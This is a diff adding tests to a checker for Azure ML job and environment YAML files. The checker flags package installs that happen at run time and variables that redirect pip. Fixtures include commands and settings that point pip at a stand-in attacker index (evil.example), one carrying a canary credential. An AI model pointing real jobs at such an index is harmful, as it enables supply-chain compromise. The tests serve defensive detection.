@@ -6,7 +6,7 @@ import pytest
 from lock_samples import allowed, conda_item, digest, image, pip_item, record
 
 from quarantine.errors import Problem, SpecError
-from quarantine.model import EnvironmentSpec, Location, Needs
+from quarantine.model import Directive, EnvironmentSpec, Location, Needs, Unverifiable
 from quarantine.spec import azureml
 from quarantine.spec.documents import load
 from quarantine.spec.recognise import recognise
@@ -155,3 +155,132 @@ def test_a_written_environment_is_read_back_as_a_lock() -> None:
     assert [(str(package.name), str(package.version), set(package.digests)) for package in part.locked] == [
         ("requests", "2.31.0", {digest("requests-2.31.0-py3-none-any.whl")})
     ]
+
+
+INSTALLS = "it installs when the job runs, which a check before the build doesn't see"
+
+
+def _told(path: str, text: str) -> EnvironmentSpec:
+    spec = _read(path, {path: text})
+    assert isinstance(spec, EnvironmentSpec)
+    return spec
+
+
+def test_what_a_job_installs_while_it_runs_is_told() -> None:
+    """Each installing command is unverifiable at its line, without its secrets; the others are the job's own."""
+    spec = _told(
+        "job.yml",
+        "environment: azureml:x:1\n"
+        "command: >-\n"
+        "  echo start && pip install -r reqs.txt --extra-index-url https://me:canary@evil.example/simple\n"
+        "  && PIP_FIND_LINKS=https://evil.example conda install ${{inputs.package}} && python train.py\n",
+    )
+
+    at = Location(file="job.yml", line=2)
+    assert spec.unverifiable == (
+        Unverifiable(
+            location=at,
+            what="command: pip install -r reqs.txt --extra-index-url https://evil.example/simple",
+            why=INSTALLS,
+        ),
+        Unverifiable(
+            location=at,
+            what="command: PIP_FIND_LINKS=https://evil.example conda install ${{inputs.package}}",
+            why=INSTALLS,
+        ),
+    )
+    assert spec.directives == (Directive(option="environment-variable", text="PIP_FIND_LINKS is set", location=at),)
+
+
+def test_commands_and_variables_count_wherever_a_job_stands() -> None:
+    """Jobs of a pipeline, components in and out of the file, and the trials of a sweep install as jobs do."""
+    pipeline = (
+        "type: pipeline\njobs:\n"
+        "  a: {command: pip install a, environment: 'azureml:x:1', environment_variables: {PIP_INDEX_URL: b, A: b}}\n"
+        "  b: {component: {command: pip install b, environment: 'azureml:x:2'}}\n"
+        "  c: {type: sweep, trial: {command: pip install c, environment: 'azureml:x:3'}}\n"
+        "  d: {component: ./d.yml}\n"
+    )
+    component = "command: pip install d\nenvironment_variables:\n  PIP_EXTRA_INDEX_URL: x\n"
+
+    spec = _read("job.yml", {"job.yml": pipeline, "d.yml": component})
+
+    assert isinstance(spec, EnvironmentSpec)
+    assert [(str(u.location), u.what) for leaf in spec.leaves for u in leaf.unverifiable] == [
+        ("job.yml:3", "command: pip install a"),
+        ("job.yml:4", "command: pip install b"),
+        ("job.yml:5", "command: pip install c"),
+        ("d.yml:1", "command: pip install d"),
+    ]
+    assert [(str(d.location), d.option, d.text) for leaf in spec.leaves for d in leaf.directives] == [
+        ("job.yml:3", "environment-variable", "PIP_INDEX_URL is set"),
+        ("d.yml:3", "environment-variable", "PIP_EXTRA_INDEX_URL is set"),
+    ]
+
+
+def test_a_deployment_with_variables() -> None:
+    """What changes where pip looks counts in a deployment, too."""
+    spec = _told(
+        "d.yml",
+        "endpoint_name: e\nmodel: azureml:m:1\nenvironment: azureml:x:1\n"
+        "environment_variables:\n  PIP_INDEX_URL: https://evil.example/simple\n",
+    )
+
+    assert spec.directives == (
+        Directive(option="environment-variable", text="PIP_INDEX_URL is set", location=Location(file="d.yml", line=5)),
+    )
+
+
+def test_a_command_and_variables_of_other_types() -> None:
+    """They are refused with their places."""
+    assert _problems(
+        "j.yml", {"j.yml": "environment: azureml:x:1\ncommand: [pip, install]\nenvironment_variables: x\n"}
+    ) == (
+        Problem(file="j.yml", line=2, message="command: expected the text of a command"),
+        Problem(file="j.yml", line=3, message="the text 'x' as `environment_variables`: expected a mapping"),
+    )
+
+
+def test_a_registered_component_is_shown_whole() -> None:
+    """The label of a component is no host, and its name no login."""
+    spec = _told("p.yml", "type: pipeline\njobs:\n  a: {component: 'azureml:train@latest'}\n")
+
+    assert spec.unverifiable == (
+        Unverifiable(
+            location=Location(file="p.yml", line=3),
+            what="component: azureml:train@latest",
+            why="its environment does not stand in this file",
+        ),
+    )
+
+
+@pytest.mark.parametrize(
+    ("written", "name"),
+    [("train_env.2", "train_env.2"), ("_x", ""), ("a/b", ""), ("42", ""), ("{a: b}", ""), ("'${{x}}'", "")],
+)
+def test_the_name_of_an_environment_is_kept(written: str, name: str) -> None:
+    """Only a name that Azure ML takes; a conda file has its own, and a job's is not its environment's."""
+    alone = _told("e.yml", f"name: {written}\nimage: x\nconda_file: {{name: c, channels: [a], dependencies: [pip]}}\n")
+    in_job = _told("j.yml", f"name: job\ncommand: a\nenvironment: {{name: {written}, image: x}}\n")
+
+    assert [leaf.name for leaf in alone.leaves] == [name, "c"]
+    assert [leaf.name for leaf in in_job.leaves] == ["", name]
+
+
+def test_unknown_keys_of_an_environment_say_what_may_be_meant() -> None:
+    """The nearest key where there is one, else those that are expected."""
+    text = "name: x\nimage: y\nconda_flie: c.yml\nfoo: 1\n"
+
+    assert _problems("e.yml", {"e.yml": text}) == (
+        Problem(
+            file="e.yml",
+            line=3,
+            message="unknown key 'conda_flie' in an Azure ML environment: did you mean `conda_file`?",
+        ),
+        Problem(
+            file="e.yml",
+            line=4,
+            message="unknown key 'foo' in an Azure ML environment: expected name, version, image, build, conda_file, "
+            "description, tags, os_type, inference_config",
+        ),
+    )
